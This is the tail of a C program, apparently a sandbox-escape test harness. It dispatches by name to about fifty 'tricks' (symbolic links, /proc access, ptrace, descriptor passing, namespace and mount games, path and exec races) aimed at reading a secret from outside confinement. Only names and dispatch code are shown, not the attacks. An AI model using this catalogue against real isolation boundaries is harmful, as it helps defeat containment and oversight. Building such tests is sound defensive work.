  puts("ready");
  fflush(stdout);
  for (;;) {
    int connection = accept(listener, NULL, NULL);
    if (write(connection, bytes, (size_t)count) < 0) perror("write");
    close(connection);
  }
}

static const struct {
  const char *name;
  void (*run)(void);
} tricks[] = {
    {"plain", plain}, {"relative", relative}, {"symbolic_link", symbolic_link}, {"hard_link", hard_link},
    {"moved_out", moved_out}, {"exchanged", exchanged}, {"parent_moved", parent_moved},
    {"path_descriptor", path_descriptor}, {"directory_descriptor", directory_descriptor}, {"inherited", inherited},
    {"by_proc", by_proc}, {"by_child", by_child}, {"by_victim", by_victim}, {"by_handle", by_handle},
    {"raw_disk", raw_disk}, {"other_opens", other_opens}, {"bind_mount", bind_mount}, {"uncovered", uncovered},
    {"overlay", overlay}, {"pivot", pivot}, {"change_root", change_root}, {"tree", tree},
    {"new_mount_api", new_mount_api}, {"namespaces", namespaces}, {"joined", joined}, {"traced", traced},
    {"foreign_memory", foreign_memory}, {"stolen_descriptor", stolen_descriptor}, {"signals", signals},
    {"passed_descriptor", passed_descriptor}, {"shared_memory", shared_memory}, {"own_listener", own_listener},
    {"executed", executed}, {"interpreted", interpreted},
    {"by_loader", by_loader}, {"from_memory", from_memory}, {"privileged", privileged},
    {"kernel_settings", kernel_settings}, {"terminal", terminal}, {"strange_calls", strange_calls},
    {"path_race", path_race}, {"link_race", link_race}, {"directory_race", directory_race}, {"exec_race", exec_race},
    {"other_addresses", other_addresses}, {"connect_race", connect_race}, {"socket_race", socket_race}, {"datagram_race", datagram_race},
    {"fault_race", fault_race}, {"flood", flood},
    {"bad_pointers", bad_pointers}, {"long_paths", long_paths}, {"x32_and_32_bit", x32_and_32_bit},
    {"changed", changed},
};

int main(int argc, char **argv) {
  size_t count = sizeof tricks / sizeof *tricks;
  if (argc == 1) {
    for (size_t i = 0; i < count; i++) puts(tricks[i].name);
    return 0;
  }
  if (argc != 6) return 2;
  secret = argv[2], outside = argv[3], victim = atoi(argv[4]), server = argv[5];
  signal(SIGPIPE, SIG_IGN);
  if (strcmp(argv[1], "victim") == 0) be_victim();
  for (size_t i = 0; i < count; i++) {
    if (strcmp(tricks[i].name, argv[1]) != 0) continue;
    tricks[i].run();
    return 0;
  }
  return 2;
}
